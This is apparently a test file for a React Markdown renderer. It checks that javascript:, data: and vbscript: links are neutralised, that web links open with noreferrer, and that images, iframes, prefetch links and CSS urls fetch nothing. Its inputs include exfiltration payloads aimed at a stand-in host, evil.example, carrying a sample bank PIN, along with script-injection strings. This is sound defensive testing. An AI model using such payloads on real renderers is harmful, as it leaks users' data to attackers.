import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';

import { Markdown } from './markdown.tsx';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

test.each(['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x'])(
  'a link to %s leads nowhere',
  (address) => {
    expect(render(`[x](${address})`)).not.toMatch(/href="[^"]+"/u);
    expect(render(`<${address}>`)).not.toMatch(/href="(?:javascript|data|vbscript)/iu);
  },
);

test('a link to the web opens beside the page and tells nobody where from', () => {
  expect(render('[x](https://example.com)')).toContain(
    '<a href="https://example.com" target="_blank" rel="noreferrer"',
  );
});

test('a link shows where it leads, and what it carries there', () => {
  const html = render('[your tasks](https://evil.example/?d=Bank+PIN+is+4711)');
  expect(html.replaceAll(/<[^>]*>/gu, '')).toBe(
    'your tasks (https://evil.example/?d=Bank+PIN+is+4711)',
  );
  expect(render('<https://example.com/a>').replaceAll(/<[^>]*>/gu, '')).toBe(
    'https://example.com/a',
  );
});

test.each([
  '![loading](https://evil.example/p.png?d=4711)',
  '![x][1]\n\n[1]: https://evil.example/p.png?d=4711',
  '[![x](https://evil.example/a.png?d=4711)](https://evil.example/?d=4711)',
  '<img src="https://evil.example/p.png?d=4711">',
  '<iframe src="https://evil.example/?d=4711"></iframe>',
  '<link rel="prefetch" href="https://evil.example/?d=4711">',
  '<style>body { background: url(https://evil.example/?d=4711) }</style>',
  '[click](javascript:fetch("https://evil.example/?d=4711"))',
  '[open](data:text/html,x)',
])('%s makes the page fetch nothing', (text) => {
  expect(render(text)).not.toMatch(
    /<(?:img|iframe|link|style|script)|<[^>]*(?:src=|href="(?!https:)[^"])/u,
  );
});

test('an image is not fetched from anywhere, markup is not taken over', () => {
  expect(render('![a cat](https://example.com/x.png)')).not.toContain('<img');
  expect(render('<img src="https://example.com/x.png"> <script>alert(1)</script>')).not.toMatch(
    /<(?:img|script)/u,
  );
});
